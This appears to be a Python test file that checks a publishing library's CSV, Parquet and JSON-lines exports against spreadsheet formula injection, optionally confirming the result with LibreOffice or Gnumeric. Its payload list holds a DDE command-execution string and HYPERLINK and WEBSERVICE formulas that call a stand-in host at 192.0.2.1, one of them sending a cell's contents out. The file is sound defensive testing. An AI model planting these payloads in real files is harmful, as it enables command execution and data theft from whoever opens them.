"""Exports of hostile texts: no spreadsheet runs a cell, and every text comes back as it was.

A round is 100 texts in a data set of 25 decisions, written as CSV, Parquet and JSON lines, and read
back. Where a spreadsheet program is installed (LibreOffice's ``soffice``, or Gnumeric's
``ssconvert``), it opens the CSV, and what it takes for a formula is counted; a file that it must
take for formulas shows that counting works.
"""

import csv
import io
import random
import re
import shutil
import subprocess
import unicodedata
import zipfile
from collections.abc import Sequence
from pathlib import Path

from diptych_core.label import Label
from diptych_core.publish.formats import encode
from diptych_core.publish.rows import LabelledPair
from diptych_core.publish.tables import read_csv, read_jsonl, read_parquet_rows
from durability.figures import Figures
from unit.core.publishing import data_set, row

_DECISIONS = 25
_STARTS = "=+-@\t\r\0\ufeff\u00a0\u200b\u3000\u2003＝＋－＠'\" \n\x0b\x0c"
_BODIES = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://192.0.2.1/?x="&A1,"click")',
    "SUM(A1:A9)*2",
    'WEBSERVICE("http://192.0.2.1/")',
    "@SUM(1,2)",
    "said the ministry; “nobody” came",
    "12,5;13\t14",
    '"quoted, twice""',
)
_READERS = {"jsonl": read_jsonl, "csv": read_csv, "parquet": read_parquet_rows}
_CONVERT_S = 120
_FORMULA = re.compile(rb"<f[ >/]")  # of a cell in Office Open XML


def run(figures: Figures, folder: Path) -> None:
    """Write texts, read them, and let a spreadsheet program open them."""
    program = spreadsheet()
    if program:
        # The control: the same texts without any protection.
        counted = formulas(program, folder, _plain(["=1+1", "=A1*2", "plain"]))
        figures.demand(f"{program} takes formulas for formulas", counted == 2)
    for randomly in figures.rounds():
        texts = [hostile(randomly) for _ in range(4 * _DECISIONS)]
        made = data_set([_decision(n, texts[4 * n : 4 * n + 4]) for n in range(_DECISIONS)])
        for name, read in _READERS.items():
            back = read(encode(name, made))
            figures.require(f"{name} comes back", list(back) == list(made.rows))
        cells = encode("csv", made)["pairs.csv"]
        for line in csv.reader(io.StringIO(cells.decode(), newline="")):
            for cell in line:
                figures.require(f"a live cell: {cell[:60]!r}", not is_live(cell))
        if program:
            counted = formulas(program, folder, cells)
            figures.require(f"{program} found {counted} formulas", counted == 0)
            figures.counts[f"opened by {program}"] += 1
        figures.counts["texts"] += len(texts)


def hostile(randomly: random.Random) -> str:
    """Return a text that a spreadsheet might run, or any other."""
    start = "".join(randomly.choice(_STARTS) for _ in range(randomly.randrange(4)))
    if randomly.random() < 0.3:
        return start + "".join(_character(randomly) for _ in range(randomly.randint(1, 20)))
    return start + randomly.choice("=+-@＝") * randomly.randrange(2) + randomly.choice(_BODIES)


def _character(randomly: random.Random) -> str:
    while True:
        one = chr(randomly.choice((randomly.randrange(0x250), randomly.randrange(0x110000))))
        if unicodedata.category(one) != "Cs":  # half a character is refused at import
            return one


def is_live(cell: str) -> bool:
    """Whether a spreadsheet would run ``cell``; numbers of ours, such as -0.5, are none."""
    try:
        float(cell)
    except ValueError:
        return cell.lstrip("\ufeff \u00a0\0").startswith(tuple("=+-@\t\r＝＋－＠"))
    return False


def _decision(number: int, texts: Sequence[str]) -> LabelledPair:
    claim, note, more, analyst = texts
    # A claim and an analyst have words: what is tried here is what stands before and in them.
    made: LabelledPair = row(
        Label.CONTRADICTION, pair=f"p{number}", text=f"{claim}w", note=note + more,
        analyst=f"{analyst}n", a=f"{number}a", b=f"{number}b",
    )  # fmt: skip
    return made


def _plain(texts: list[str]) -> bytes:
    file = io.StringIO(newline="")
    csv.writer(file).writerows([text] for text in texts)
    return file.getvalue().encode()


def spreadsheet() -> str:
    """Return the spreadsheet program that is installed; empty for none."""
    return next((name for name in ("soffice", "ssconvert") if shutil.which(name)), "")


def formulas(program: str, folder: Path, cells: bytes) -> int:
    """Return how many cells of a CSV file ``program`` takes for formulas."""
    given, made = folder / "cells.csv", folder / "cells.xlsx"
    given.write_bytes(cells)
    made.unlink(missing_ok=True)
    command = {
        "soffice": [
            "soffice", "--headless", f"-env:UserInstallation=file://{folder}/office",
            "--convert-to", "xlsx", "--outdir", str(folder), str(given),
        ],
        "ssconvert": ["ssconvert", str(given), str(made)],
    }[program]  # fmt: skip
    subprocess.run(command, check=True, capture_output=True, timeout=_CONVERT_S)
    with zipfile.ZipFile(made) as book:
        sheets = [name for name in book.namelist() if name.startswith("xl/worksheets/sheet")]
        return sum(len(_FORMULA.findall(book.read(name))) for name in sheets)
